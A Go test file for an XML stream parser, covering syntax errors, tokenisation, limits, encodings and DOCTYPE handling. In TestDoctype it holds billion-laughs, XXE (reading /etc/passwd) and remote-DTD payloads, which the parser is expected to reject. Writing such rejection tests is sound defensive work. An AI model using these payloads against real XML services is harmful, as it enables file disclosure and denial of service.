package xmlstream

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// readAll reads every token of doc and renders it as one line per token.
func readAll(doc string, lim Limits) ([]string, error) {
	r := NewReader([]byte(doc), lim)
	var out []string
	for {
		tok, err := r.Next()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, render(tok))
	}
}

func render(tok Token) string {
	name := func(n Name) string {
		if n.Space == "" {
			return n.Local
		}
		return "{" + n.Space + "}" + n.Local
	}
	switch tok.Kind {
	case StartElement:
		s := "start " + name(tok.Name)
		for _, a := range tok.Attrs {
			s += fmt.Sprintf(" %s=%q", name(a.Name), a.Value)
		}
		return s
	case EndElement:
		return "end " + name(tok.Name)
	case CharData:
		if tok.CDATA {
			return fmt.Sprintf("cdata %q", tok.Data)
		}
		return fmt.Sprintf("text %q", tok.Data)
	case Comment:
		return fmt.Sprintf("comment %q", tok.Data)
	case ProcInst:
		return fmt.Sprintf("pi %q", tok.Data)
	case Directive:
		return fmt.Sprintf("directive %q", tok.Data)
	}
	return "?"
}

func TestWellFormednessErrors(t *testing.T) {
	tests := []struct {
		name, doc, want string
	}{
		{"empty", "", "no root element"},
		{"only space", "  \n", "no root element"},
		{"two roots", "<a/><b/>", "content after the root element"},
		{"text before root", "x<a/>", "text before the root element"},
		{"text after root", "<a/>x", "text after the root element"},
		{"unclosed", "<a><b></b>", "element <a> is not closed"},
		{"mismatch", "<a></b>", "end tag </b> does not match start tag <a>"},
		{"stray end", "</a>", "unexpected end tag </a>"},
		{"bad name start", "<1a/>", "expected an element name after <"},
		{"bad name char", "<a\u00d7b/>", "invalid name character"},
		{"two colons", "<a:b:c/>", "at most one colon"},
		{"empty prefix", "<:a/>", "invalid QName"},
		{"empty local", "<a:/>", "invalid QName"},
		{"digit local", "<x xmlns:a='u'><a:1/></x>", "local name cannot start"},
		{"dup attr", "<a x='1' x='2'/>", "duplicate attribute x"},
		{"dup after resolution", "<a xmlns:p='u' xmlns:q='u' p:x='1' q:x='2'/>", "duplicate attribute q:x"},
		{"dup xmlns", "<a xmlns='u' xmlns='v'/>", "duplicate attribute xmlns"},
		{"lt in attr", "<a x='<'/>", "< is not allowed in an attribute value"},
		{"unquoted attr", "<a x=1/>", "is not quoted"},
		{"attr without value", "<a x/>", "has no value"},
		{"no space between attrs", "<a x='1'y='2'/>", "expected white space"},
		{"cdata end in text", "<a>]]></a>", "]]> is not allowed in text"},
		{"bad utf8 text", "<a>\xff</a>", "invalid UTF-8 in text"},
		{"bad utf8 attr", "<a x='\xc3'/>", "invalid UTF-8 in an attribute value"},
		{"control char", "<a>\x01</a>", "character U+0001 is not allowed"},
		{"fffe", "<a>\uFFFE</a>", "character U+FFFE is not allowed"},
		{"unknown entity", "<a>&foo;</a>", "undefined entity &foo;"},
		{"unterminated ref", "<a>a & b</a>", "unterminated reference"},
		{"bad char ref", "<a>&#xZZ;</a>", "invalid character reference"},
		{"nul char ref", "<a>&#0;</a>", "&#0; is not an allowed XML character"},
		{"surrogate char ref", "<a>&#xD800;</a>", "is not an allowed XML character"},
		{"huge char ref", "<a>&#x1100000;</a>", "invalid character reference"},
		{"comment dashes", "<a><!-- a -- b --></a>", "-- is not allowed inside a comment"},
		{"comment triple dash", "<a><!-- a ---></a>", "-- is not allowed inside a comment"},
		{"unterminated comment", "<a><!-- a </a>", "unterminated comment"},
		{"unterminated cdata", "<a><![CDATA[ x </a>", "unterminated CDATA"},
		{"cdata outside root", "<![CDATA[x]]><a/>", "CDATA section outside the root element"},
		{"unknown bang", "<a><!FOO></a>", "unknown markup declaration"},
		{"late xml decl", "<a/><?xml version='1.0'?>", "XML declaration must come first"},
		{"space before decl", " <?xml version='1.0'?><a/>", "XML declaration must come first"},
		{"reserved pi", "<a><?XmL x?></a>", "targets named xml are reserved"},
		{"pi no space", "<a><?pi!x?></a>", "expected white space after the processing instruction target"},
		{"bad version", "<?xml version='1.1'?><a/>", "unsupported XML version"},
		{"no version", "<?xml encoding='UTF-8'?><a/>", "malformed XML declaration"},
		{"bad encoding", "<?xml version='1.0' encoding='Shift_JIS'?><a/>", "unsupported encoding \"Shift_JIS\""},
		{"utf16 bom", "\xFF\xFE<\x00a\x00/\x00>\x00", "UTF-16"},
		{"undeclared element prefix", "<p:a/>", "undeclared namespace prefix \"p\""},
		{"undeclared attr prefix", "<a p:x='1'/>", "undeclared namespace prefix \"p\""},
		{"undeclare prefix", "<a xmlns:p='u'><b xmlns:p=''/></a>", "cannot undeclare a prefix"},
		{"declare xmlns", "<a xmlns:xmlns='u'/>", "prefix xmlns cannot be declared"},
		{"rebind xml", "<a xmlns:xml='u'/>", "prefix xml can only be bound"},
		{"bind xml ns", "<a xmlns:p='http://www.w3.org/XML/1998/namespace'/>", "only the prefix xml"},
		{"bind xmlns ns", "<a xmlns:p='http://www.w3.org/2000/xmlns/'/>", "no prefix can be bound"},
		{"xmlns element", "<xmlns:a/>", "reserved prefix xmlns"},
		{"eof in tag", "<a x='1'", "unexpected end of document"},
		{"eof in attr", "<a x='1", "unexpected end of document in an attribute value"},
		{"bad end tag", "<a></a x>", "expected > to end </a"},
		{"lone lt", "<a><</a>", "expected an element name after <"},
		{"doctype twice", "<!DOCTYPE a><!DOCTYPE a><a/>", "DOCTYPE is only allowed once"},
		{"doctype inside", "<a><!DOCTYPE a></a>", "DOCTYPE is only allowed once, before the root"},
		{"doctype no name", "<!DOCTYPE >", "expected the root element name"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := readAll(tt.doc, Limits{})
			var se *SyntaxError
			if !errors.As(err, &se) {
				t.Fatalf("error = %v, want a *SyntaxError containing %q", err, tt.want)
			}
			if !strings.Contains(se.Msg, tt.want) {
				t.Errorf("error = %q, want it to contain %q", se.Msg, tt.want)
			}
		})
	}
}

func TestDoctype(t *testing.T) {
	const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>`
	const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`
	const paramXXE = `<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><foo/>`
	tests := []struct {
		name, doc string
		want      []string // tokens, when accepted
		err       string
	}{
		{"billion laughs", billionLaughs, nil, "DOCTYPE declares entities (<!ENTITY)"},
		{"xxe", xxe, nil, "DOCTYPE declares entities"},
		{"parameter entity", paramXXE, nil, "DOCTYPE declares entities"},
		{"pe reference", `<!DOCTYPE foo [%p;]><foo/>`, nil, "parameter entity references"},
		{"attlist", `<!DOCTYPE foo [<!ATTLIST foo a CDATA "x">]><foo/>`, nil, "attribute defaults"},
		{"entity use without doctype", `<foo>&xxe;</foo>`, nil, "undefined entity &xxe;"},
		{"plain", `<!DOCTYPE foo><foo/>`, []string{`directive "DOCTYPE foo"`, "start foo", "end foo"}, ""},
		{"system", `<!DOCTYPE foo SYSTEM "http://example.com/foo.dtd"><foo/>`,
			[]string{`directive "DOCTYPE foo SYSTEM \"http://example.com/foo.dtd\""`, "start foo", "end foo"}, ""},
		{"public", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" 'x.dtd' ><html/>`,
			[]string{`directive "DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" 'x.dtd' "`, "start html", "end html"}, ""},
		{"element decls", `<!DOCTYPE a [<!ELEMENT a (#PCDATA)> <!-- c --> <?pi x?>]><a/>`,
			[]string{`directive "DOCTYPE a [<!ELEMENT a (#PCDATA)> <!-- c --> <?pi x?>]"`, "start a", "end a"}, ""},
		{"system without space", `<!DOCTYPE a SYSTEM"x"><a/>`, nil, "expected a quoted literal"},
		// A processing instruction in the internal subset follows the same
		// rules as one in the document (fuzzing found the first).
		{"subset pi without a target", `<!DOCTYPE A[<?"?>]><a></a>`, nil, "in DOCTYPE: expected a processing instruction target after <?"},
		{"subset pi with an empty target", `<!DOCTYPE a [<??>]><a/>`, nil, "in DOCTYPE: expected a processing instruction target"},
		{"subset pi without space", `<!DOCTYPE a [<?pi"x"?>]><a/>`, nil, "in DOCTYPE: expected white space after the processing instruction target"},
		{"subset pi named xml", `<!DOCTYPE a [<?XmL x?>]><a/>`, nil, "in DOCTYPE: processing instruction targets named xml are reserved"},
		{"subset pi unterminated", `<!DOCTYPE a [<?pi x]><a/>`, nil, "in DOCTYPE: unterminated processing instruction"},
		{"subset pi named like xml", `<!DOCTYPE a [<?xml-stylesheet x?><?pi?>]><a/>`,
			[]string{`directive "DOCTYPE a [<?xml-stylesheet x?><?pi?>]"`, "start a", "end a"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := readAll(tt.doc, Limits{})
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) {
					t.Fatalf("error = %v, want %q", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("tokens (-want +got):\n%s", diff)
			}
		})
	}
}

func TestTokens(t *testing.T) {
	tests := []struct {
		name, doc string
		want      []string
	}{
		{"entities", `<a x="&lt;&amp;&gt;&quot;&apos;">&lt;&amp;&gt;&quot;&apos;</a>`,
			[]string{`start a x="<&>\"'"`, `text "<&>\"'"`, "end a"}},
		{"char refs", `<a x="&#65;&#x42;&#x1F600;">&#65;&#x42;&#x1f600;</a>`,
			[]string{`start a x="AB😀"`, `text "AB😀"`, "end a"}},
		{"attr normalization", "<a x='a\tb\nc\r\nd' y='&#9;&#10;&#13;'/>",
			[]string{`start a x="a b c d" y="\t\n\r"`, "end a"}},
		{"text line ends", "<a>a\r\nb\rc\n</a>", []string{`text "a\nb\nc\n"`}},
		{"cdata", "<a><![CDATA[<&\r\n]]]></a>", []string{`cdata "<&\n]"`}},
		{"gt in text", "<a>a > b ]] ] ></a>", []string{`text "a > b ]] ] >"`}},
		{"comment and pi", "<!-- top --><?pi?><a><!----><?p  x ?></a><!--end-->",
			[]string{`comment " top "`, `pi "pi"`, "start a", `comment ""`, `pi "p  x "`, "end a", `comment "end"`}},
		{"spaces in tags", "<a  x = '1'\n y\t=\"2\" ></a >", []string{`start a x="1" y="2"`, "end a"}},
		{"outer space dropped", "\n <a/> \n", []string{"start a", "end a"}},
		{"unicode names", "<ça été='1'/>", []string{`start ça été="1"`, "end ça"}},
		{"quotes inside", `<a x="it's" y='say "hi"'/>`, []string{`start a x="it's" y="say \"hi\""`, "end a"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := readAll(tt.doc, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if strings.HasPrefix(tt.want[0], "start") || strings.HasPrefix(tt.want[0], "comment") {
				if diff := cmp.Diff(tt.want, got); diff != "" {
					t.Errorf("tokens (-want +got):\n%s", diff)
				}
				return
			}
			if diff := cmp.Diff(tt.want, got[1:len(got)-1]); diff != "" {
				t.Errorf("tokens (-want +got):\n%s", diff)
			}
		})
	}
}

func TestLimits(t *testing.T) {
	deep := strings.Repeat("<a>", 5) + strings.Repeat("</a>", 5)
	manyAttrs := "<a" + strings.Repeat(" x0='1'", 1)
	for i := 1; i < 5; i++ {
		manyAttrs += fmt.Sprintf(" x%d='1'", i)
	}
	manyAttrs += "/>"
	tests := []struct {
		name, doc string
		lim       Limits
		err       string
	}{
		{"depth ok", deep, Limits{MaxDepth: 5}, ""},
		{"depth", deep, Limits{MaxDepth: 4}, "depth limit 4 exceeded"},
		{"default depth", strings.Repeat("<a>", 300), Limits{}, "depth limit 256 exceeded"},
		{"attrs ok", manyAttrs, Limits{MaxAttrs: 5}, ""},
		{"attrs", manyAttrs, Limits{MaxAttrs: 4}, "attribute limit 4 exceeded"},
		{"xmlns counts", "<a xmlns='u' x='1'/>", Limits{MaxAttrs: 1}, "attribute limit 1 exceeded"},
		{"name ok", "<abcd/>", Limits{MaxNameLen: 4}, ""},
		{"name", "<abcde/>", Limits{MaxNameLen: 4}, "name length limit 4 exceeded"},
		{"attr name", "<a abcde='1'/>", Limits{MaxNameLen: 4}, "name length limit 4 exceeded"},
		{"size ok", "<a/>", Limits{MaxSize: 4}, ""},
		{"size", "<a/> ", Limits{MaxSize: 4}, "document size 5 exceeds the size limit 4"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := readAll(tt.doc, tt.lim)
			if tt.err == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			var se *SyntaxError
			if !errors.As(err, &se) || !strings.Contains(se.Msg, tt.err) {
				t.Fatalf("error = %v, want %q", err, tt.err)
			}
		})
	}
}

func TestEncodings(t *testing.T) {
	tests := []struct {
		name, doc string
		want      []string
	}{
		{"bom", "\xEF\xBB\xBF<a>x</a>", []string{"start a", `text "x"`, "end a"}},
		{"bom and decl", "\xEF\xBB\xBF<?xml version=\"1.0\"?><a/>", []string{`pi "xml version=\"1.0\""`, "start a", "end a"}},
		{"latin1", "<?xml version='1.0' encoding='ISO-8859-1'?><a x='\xe9'>\xe7a</a>",
			[]string{`pi "xml version='1.0' encoding='ISO-8859-1'"`, `start a x="é"`, `text "ça"`, "end a"}},
		{"ascii", "<?xml version='1.0' encoding='us-ascii' standalone='yes'?><a/>",
			[]string{`pi "xml version='1.0' encoding='us-ascii' standalone='yes'"`, "start a", "end a"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := readAll(tt.doc, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("tokens (-want +got):\n%s", diff)
			}
		})
	}
}

func TestLineNumbers(t *testing.T) {
	doc := "<?xml version='1.0'?>\n<a>\n  <b\n   x='1'>text\n</b>\n  <c/>\n</a>\n"
	r := NewReader([]byte(doc), Limits{})
	var got []string
	for {
		tok, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if tok.Kind == StartElement || tok.Kind == EndElement {
			got = append(got, fmt.Sprintf("%s@%d", render(tok), r.Line()))
		}
	}
	want := []string{`start a@2`, `start b x="1"@3`, "end b@5", "start c@6", "end c@6", "end a@7"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("lines (-want +got):\n%s", diff)
	}
	_, err := readAll("<a>\n<b>\n\n</c></a>", Limits{})
	var se *SyntaxError
	if !errors.As(err, &se) || se.Line != 4 || err.Error() != "xml: line 4: end tag </c> does not match start tag <b>" {
		t.Errorf("error = %v", err)
	}
}

func TestSkipAndDepth(t *testing.T) {
	r := NewReader([]byte(`<a><b><c>x</c><d/></b><e/></a>`), Limits{})
	want := []struct {
		tok   string
		depth int
	}{{"start a", 1}, {"start b", 2}, {"start e", 2}, {"end e", 1}, {"end a", 0}}
	for i, w := range want {
		tok, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		if render(tok) != w.tok || r.Depth() != w.depth {
			t.Errorf("token %d = %s depth %d, want %s depth %d", i, render(tok), r.Depth(), w.tok, w.depth)
		}
		if w.tok == "start b" {
			if err := r.Skip(); err != nil {
				t.Fatal(err)
			}
		}
	}
	if _, err := r.Next(); err != io.EOF {
		t.Errorf("after root: %v, want EOF", err)
	}
}

func TestResetReuses(t *testing.T) {
	r := NewReader([]byte(`<a xmlns="u"/>`), Limits{})
	for i := range 2 {
		got := []string{}
		for {
			tok, err := r.Next()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, render(tok))
		}
		if len(got) != 2 {
			t.Errorf("round %d: %v", i, got)
		}
		r.Reset([]byte(`<b/>`), Limits{})
		if tok, err := r.Next(); err != nil || tok.Name.Local != "b" {
			t.Fatalf("after Reset: %v %v", tok, err)
		}
		r.Reset([]byte(`<a xmlns="u"/>`), Limits{})
	}
}

// TestAppendText: text, CDATA and entities of an element are appended
// through its end tag, comments and processing instructions skipped; a
// child element stops the call as Next would report it.
func TestAppendText(t *testing.T) {
	r := NewReader([]byte(`<r><a>x<!--c-->&amp;<?p i?><![CDATA[<y>]]></a><b>1<c k="v"/>2</b></r>`), Limits{})
	if _, err := r.Next(); err != nil {
		t.Fatal(err)
	}
	if tok, err := r.Next(); err != nil || tok.Name.Local != "a" {
		t.Fatal(tok, err)
	}
	var start Token
	out, ok, err := r.AppendText([]byte("pre:"), &start)
	if err != nil || !ok || string(out) != "pre:x&<y>" {
		t.Fatalf("%q %v %v", out, ok, err)
	}
	if tok, err := r.Next(); err != nil || tok.Name.Local != "b" {
		t.Fatal(tok, err)
	}
	out, ok, err = r.AppendText(nil, &start)
	if err != nil || ok || string(out) != "1" || start.Kind != StartElement || start.Name.Local != "c" || len(start.Attrs) != 1 {
		t.Fatalf("%q %+v %v %v", out, start, ok, err)
	}
	if err := r.Skip(); err != nil {
		t.Fatal(err)
	}
	out, ok, err = r.AppendText(out, &start)
	if err != nil || !ok || string(out) != "12" {
		t.Fatalf("%q %v %v", out, ok, err)
	}
	r = NewReader([]byte(`<a>x`), Limits{})
	if _, err := r.Next(); err != nil {
		t.Fatal(err)
	}
	if _, _, err := r.AppendText(nil, &start); err == nil {
		t.Error("unterminated element: no error")
	}
}

// TestElementText: ElementText returns what AppendText appends, viewing
// the document for one undecoded run of text and collecting everything
// else in the buffer, also when a later token reuses the decode buffer.
func TestElementText(t *testing.T) {
	for _, tc := range []struct {
		doc  string
		view bool // the text is a view of the document
	}{
		{"<r><a>plain</a></r>", true},
		{"<r><a></a></r>", false},
		{"<r><a/></r>", false},
		{"<r><a>x&amp;y</a></r>", false},
		{"<r><a>l1\r\nl2</a></r>", false},
		{"<r><a>&amp;<!--c\r\n-->x</a></r>", false},
		{"<r><a>x<![CDATA[y\r\nz]]></a></r>", false},
		{"<r><a>x<!--c-->y<?p i?></a></r>", false},
		{"<r><a>x<c k='&lt;'/>y</a></r>", false},
		{"<r><a>&lt;<c k='&gt;'/>y</a></r>", false},
		{"<r><a>x", false},
	} {
		doc := []byte(tc.doc)
		want, got := NewReader(doc, Limits{}), NewReader(doc, Limits{})
		for range 2 {
			want.Next()
			got.Next()
		}
		var wstart, gstart Token
		buf := []byte("stale")
		wtext, wok, werr := want.AppendText(nil, &wstart)
		gtext, gok, gerr := got.ElementText(&buf, &gstart)
		if (string(gtext) != string(wtext) && werr == nil) || gok != wok || (gerr == nil) != (werr == nil) || gstart.Name != wstart.Name {
			t.Errorf("%q: ElementText %q %v %v %v, AppendText %q %v %v %v", tc.doc, gtext, gok, gerr, gstart.Name, wtext, wok, werr, wstart.Name)
		}
		inDoc := len(gtext) > 0 && bytes.Contains(doc, gtext) && &gtext[0] == &doc[bytes.Index(doc, gtext)]
		if inDoc != tc.view || cap(gtext) != len(gtext) && inDoc {
			t.Errorf("%q: view %v, want %v (cap %d)", tc.doc, inDoc, tc.view, cap(gtext))
		}
		if !inDoc && gerr == nil && len(gtext) > 0 && &gtext[0] != &buf[0] {
			t.Errorf("%q: the text is not in the buffer", tc.doc)
		}
		if wok {
			wt, werr := want.Next()
			gt, gerr := got.Next()
			if wt.Kind != gt.Kind || wt.Name != gt.Name || (werr == nil) != (gerr == nil) {
				t.Errorf("%q: next token %v %v, want %v %v", tc.doc, gt, gerr, wt, werr)
			}
		}
	}
}

// TestReadToken: ReadToken stores the tokens Next returns, through the
// end of the document and after an error.
func TestReadToken(t *testing.T) {
	for _, doc := range []string{
		`<?xml version="1.0"?><!--c--><r xmlns:p="u" a="1"><p:a b="&amp;">x&lt;<![CDATA[y]]></p:a><e/><?pi d?></r>`,
		`<r><a></b></r>`,
	} {
		want, got := NewReader([]byte(doc), Limits{}), NewReader([]byte(doc), Limits{})
		tok := Token{Kind: Comment, Data: []byte("stale")}
		for {
			wt, werr := want.Next()
			gerr := got.ReadToken(&tok)
			if d := cmp.Diff(wt, tok); d != "" || (werr == nil) != (gerr == nil) {
				t.Fatalf("%s: ReadToken vs Next (-want +got):\n%s\nerrors %v, %v", doc, d, gerr, werr)
			}
			if werr != nil {
				break
			}
		}
	}
}
